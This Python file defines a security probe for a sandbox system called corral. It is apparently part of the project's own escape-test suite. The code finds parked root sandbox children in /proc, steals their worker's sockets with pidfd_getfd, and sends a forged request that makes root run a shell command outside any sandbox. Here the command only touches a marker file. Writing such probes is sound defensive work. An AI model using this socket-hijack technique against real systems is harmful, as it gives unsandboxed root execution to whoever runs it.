"""The warm worker's parked sandbox child, hijacked from the sandbox (M8).

As root, a warm launcher worker keeps the next sandbox's first process
forked and parked on a socketpair (`sandbox.prefork`): whoever writes a
request to the worker's end makes that root process exec any argv with any
set-up (no uid drop, no sandbox). The probe looks for parked children
(`corral-spawn` in /proc), steals each socket their worker holds with
pidfd_getfd, and sends a request to run `touch WS_PARENT/pwned-MARKER`. When
it finds none but can run corral's interpreter (the bare host), it starts a
launcher first, as the front end's fallback would. Judged on the host: the
file exists after the run.
"""

from __future__ import annotations

import sys

from corral.exec import launcher
from corral.verify.model import PathExists, Probe
from corral.verify.oracles import Fact
from corral.verify.probes._dsl import code

__all__ = ["PROBES"]

_HOST = {"python": sys.executable, "src": launcher.source_root(), "boot": launcher._BOOT}

_CODE = f"H = {_HOST!r}\n" + code("""
    import marshal, subprocess, time
    pwn = P["ws_parent"] + "/pwned-" + MARKER

    def parked():
        out = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open("/proc/%s/comm" % pid) as f:
                        if f.read().strip() == "corral-spawn":
                            out.append(int(pid))
                except OSError:
                    pass
        return out

    def hijack(child):
        try:
            with open("/proc/%d/stat" % child) as f:
                worker = int(f.read().rsplit(")", 1)[1].split()[1])
            fds = [int(n) for n in os.listdir("/proc/%d/fd" % worker)]
        except OSError as e:
            print("inspect", errname(e.errno))
            return
        pidfd, e = sysc("pidfd_open", worker, 0)
        if pidfd < 0:
            print("pidfd_open", errname(e))
            return
        argv = ["/bin/sh", "-c", "touch " + pwn]
        # No uid drop, no sandbox: what a forged request would get.
        setup = (False, [], -1, 0, 0, worker, None, 2, None, [])
        body = marshal.dumps((argv, {"PATH": "/usr/bin:/bin"}, [0, 1, 2], 3, 0o22, [], setup))
        for n in fds:
            fd, e = sysc("pidfd_getfd", pidfd, n, 0)
            if fd < 0:
                print("pidfd_getfd", errname(e))
                continue
            try:
                s = socket.socket(fileno=fd)
                s.sendmsg([struct.pack("!I", len(body)) + body],
                          [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("3i", 0, 1, 2))])
                print("sent on a stolen socket")
            except OSError as e:
                print("send", errname(e.errno))
                os.close(fd)

    def hit():
        for _ in range(40):
            if os.path.exists(pwn):
                return True
            time.sleep(0.05)
        return False

    found = parked()
    for child in found:
        hijack(child)
    tried = set(found)
    own = None
    # None seen, or none that served (another launcher's, of another shape or mount
    # namespace): start a launcher as the front end's fallback would (the bare host).
    if not (found and hit()) and os.access(H["python"], os.X_OK) and os.path.isdir(H["src"]):
        d = "/tmp/corral-%d/launcher" % os.getuid()
        sock = d + "/probe-" + MARKER + ".sock"
        try:
            os.makedirs(d, 0o700, exist_ok=True)
            own = subprocess.Popen([H["python"], "-I", "-c", H["boot"], H["src"], "--socket",
                                    sock, "--idle-s", "10"], stdin=subprocess.DEVNULL,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                   start_new_session=True, cwd="/")
            for _ in range(400):
                found = [c for c in parked() if c not in tried]
                if found:
                    break
                time.sleep(0.05)
        except OSError as e:
            print("start launcher:", errname(e.errno))
        for child in found:
            hijack(child)
        tried.update(found)
        hit()
    print("parked children seen:", len(tried))
    if own is not None:
        own.terminate()
        own.wait()
        try:
            os.unlink(sock + ".lock")
        except OSError:
            pass
    """)

PROBES: list[Probe] = [
    Probe(
        "priv-prefork-hijack",
        "privilege",
        "M8",
        "steal the socket of a launcher worker's parked sandbox child (pidfd_getfd) and have it "
        "run a command as root outside any sandbox",
        _CODE,
        Fact("pwned", "a parked sandbox child ran the probe's command outside the sandbox"),
        checks=(PathExists("pwned", "{ws_parent}/pwned-{marker}"),),
    ),
]
